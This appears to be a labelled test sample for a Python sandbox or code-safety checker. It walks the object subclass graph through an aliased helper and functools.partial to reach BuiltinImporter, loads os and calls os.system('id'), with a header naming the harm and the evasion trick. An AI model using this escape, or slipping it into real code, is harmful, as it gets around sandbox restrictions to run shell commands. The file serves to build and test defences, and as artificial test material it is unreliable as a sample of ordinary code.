# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: walk(cls=Base) helper called via alias name and functools.partial
import functools


class Base:
    pass


def walk(cls=Base):
    for sub in cls.__subclasses__():
        yield sub
        yield from walk(sub)


everything = functools.partial(walk, object)
for c in everything():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
